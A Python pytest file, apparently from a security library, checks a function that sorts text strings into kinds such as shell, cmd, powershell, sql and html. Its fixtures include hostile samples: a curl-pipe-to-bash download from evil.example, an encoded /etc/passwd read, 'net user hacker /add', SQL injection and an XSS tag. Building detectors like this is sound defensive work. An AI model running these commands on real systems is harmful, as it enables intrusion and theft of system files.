"""Kinds of text are told by their signs."""

from __future__ import annotations

import pytest

from sftsec_core.api import TextKind
from sftsec_robust.kinds import text_kind

TEXTS: dict[str, TextKind] = {
    "https://evil.example/login?id=1": "url",
    "Your parcel waits at https://evil.example/x": "prose",
    "Don't give up, see you at 5!": "prose",
    "%3Bcat%20/etc/passwd": "form",
    "user=bob&role=admin": "form",
    "../../../../{0}": "form",
    "curl -s http://evil.example | bash": "shell",
    "echo $(id)": "shell",
    "cmd.exe /c whoami": "cmd",
    "net user hacker /add": "cmd",
    "500 free net minutes a month": "prose",
    "powershell -enc AAAA": "powershell",
    "Invoke-Expression $x": "powershell",
    "1' or '1'='1": "sql",
    "select a from b": "sql",
    "<script>alert(1)</script>": "html",
    "": "prose",
}


class TestTextKind:
    @pytest.mark.parametrize(("text", "kind"), TEXTS.items())
    def test_is_told_by_signs(self, text: str, kind: TextKind) -> None:
        assert text_kind(text) == kind

    def test_takes_a_long_text(self) -> None:
        assert text_kind("word " * 200_000) == "prose"
